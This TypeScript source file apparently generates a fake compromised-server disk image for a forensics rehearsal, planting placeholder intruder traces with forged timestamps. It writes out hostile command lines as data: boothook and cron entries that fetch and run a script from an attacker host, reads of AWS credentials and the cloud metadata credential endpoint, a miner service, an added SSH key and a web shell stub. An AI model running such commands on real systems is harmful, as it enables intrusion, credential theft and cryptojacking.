import { at, type DiskEntry, type Times } from '../../disks-build/manifest.ts';
import type { Draw } from '../draw.ts';
import { publicKey, UBUNTU, WEB } from './base.ts';
import { MINING_AFTER, type WebServerFacts } from './facts.ts';

const HARMLESS = 'This file stands in for malware in a rehearsal. It does nothing.';

/** The user data the intruder put in place: cloud-init runs a boothook at every start, as root. */
export const intruderUserData = (attacker: WebServerFacts['attacker']): string =>
  [
    '#cloud-boothook',
    '#!/bin/sh',
    `# ${HARMLESS}`,
    `curl -fsS http://${attacker.scanner}/s.sh -o /tmp/.s && sh /tmp/.s ${attacker.pool} ${attacker.wallet}`,
    '',
  ].join('\n');

/**
 * What the intruder left. The miner and its cron entry carry forged modification times (a whole second, years back)
 * whose birth and change times tell the truth.
 */
export function traceEntries(facts: WebServerFacts, draw: Draw): DiskEntry[] {
  const { attacker, times, company, staff, host } = facts;
  const boot = (seconds: number, milliseconds: number): number => times.restarted + seconds * 1000 + milliseconds;
  const forged = (real: number): Times => {
    const then = Date.UTC(2023, draw.int(0, 11), draw.int(1, 28), draw.int(0, 23), draw.int(0, 59), 0);
    return { born: real, changed: real + 1_203, modified: then, accessed: then };
  };
  const file = (path: string, content: string | Uint8Array, when: number | Times, more: Partial<DiskEntry> = {}): DiskEntry => ({
    path,
    kind: 'file',
    content,
    times: typeof when === 'number' ? at(when) : when,
    ...more,
  });
  const name = attacker.minerName;
  const folder = `/usr/lib/${name}`;
  const unit = `/etc/systemd/system/${name}.service`;
  const pools = [{ url: attacker.pool, user: attacker.wallet, keepalive: true, tls: true }];
  const miner = Buffer.concat([Buffer.from(`${HARMLESS}\n${name} pool=${attacker.pool} user=${attacker.wallet}\n`), draw.bytes(1_400_000)]);
  const keys = [publicKey(draw.fork('admin-key'), `${staff.user}@${company.slug}`), publicKey(draw.fork('intruder'), attacker.keyComment)];
  const history = [
    'w',
    'nproc',
    'nvidia-smi',
    `systemctl status ${name}`,
    'cat /home/*/.aws/credentials',
    'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'history -c',
  ];
  const shell = '<?php /* passthru of request parameter c */ ?>';
  return [
    file(`/var/lib/cloud/instances/${host.instanceId}/user-data.txt`, intruderUserData(attacker), boot(11, 412), { mode: 0o600 }),
    file('/tmp/.s', `#!/bin/sh\n# ${HARMLESS}\n# fetches ${name}, writes unit and cron entry, adds a key for ubuntu and a page for the web\n`, boot(13, 377), {
      mode: 0o755,
      deleted: true,
    }),
    file(`${folder}/${name}`, miner, forged(boot(21, 733)), { mode: 0o755 }),
    file(`${folder}/config.json`, `${JSON.stringify({ autosave: true, cpu: true, pools }, null, 2)}\n`, boot(22, 109), { mode: 0o600 }),
    file(
      unit,
      `[Unit]\nDescription=Kernel worker accounting\n[Service]\nExecStart=${folder}/${name} -c ${folder}/config.json\nRestart=always\nNice=10\n[Install]\nWantedBy=multi-user.target\n`,
      boot(22, 890),
    ),
    { path: `/etc/systemd/system/multi-user.target.wants/${name}.service`, kind: 'link', content: unit, times: at(boot(MINING_AFTER - 1, 214)) },
    file(
      '/etc/cron.d/apt-xapian',
      `*/10 * * * * root pgrep -x ${name} >/dev/null || (curl -fsS http://${attacker.scanner}/s.sh | sh) >/dev/null 2>&1\n`,
      forged(boot(24, 31)),
    ),
    file(
      '/home/ubuntu/.ssh/authorized_keys',
      `${keys.join('\n')}\n`,
      { born: facts.launched + 20_000, modified: boot(25, 660), changed: boot(25, 660), accessed: times.login },
      {
        mode: 0o600,
        owner: UBUNTU,
      },
    ),
    file(`/var/www/${company.slug}/uploads/${attacker.shellFile}`, `GIF89a<?php /* ${HARMLESS} */ ?>${shell}\n`, boot(26, 118), { owner: WEB }),
    file(
      '/root/.bash_history',
      `${history.join('\n')}\n`,
      { born: times.login + 30_451, modified: times.cleaned, changed: times.cleaned, accessed: times.login + 30_451 },
      { mode: 0o600 },
    ),
    file('/var/tmp/.b', Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01\0', 'latin1'), draw.bytes(60_000)]), times.login + 51_733, { mode: 0o4755 }),
  ];
}
